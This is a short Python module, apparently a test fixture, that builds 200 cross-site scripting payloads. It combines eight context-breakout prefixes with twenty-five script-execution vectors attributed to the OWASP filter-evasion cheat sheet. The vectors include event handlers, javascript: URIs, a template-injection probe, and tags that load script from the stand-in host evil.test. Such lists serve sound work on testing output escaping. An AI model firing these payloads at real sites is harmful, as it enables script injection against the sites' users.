"""Two hundred texts that would run a script if a page, a mail or a message did not escape them.

They are eight ways out of the place where a text stands, with twenty-five ways to run a script. The ways are those of
the OWASP cheat sheet on evading XSS filters.
"""

#: Ways out of an element, an attribute, a script, a style, a comment or a template.
_OUT = ("", '">', "'>", "</textarea>", "</title></script>", "-->", "]]>", '" autofocus x="')
#: Ways to run a script.
_RUN = (
    "<script>alert(1)</script>",
    "<script src=//evil.test></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=javascript:alert(1)><button>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.test>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.test>",
    "<style>@import '//evil.test'</style>",
    "<div style='background:url(javascript:alert(1))'>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    " onmouseover=alert(1) ",
    "{{ ''.__class__.__mro__ }}{% print(1) %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
)
XSS = tuple(out + run for out in _OUT for run in _RUN)
assert len(XSS) == len(set(XSS)) == 200
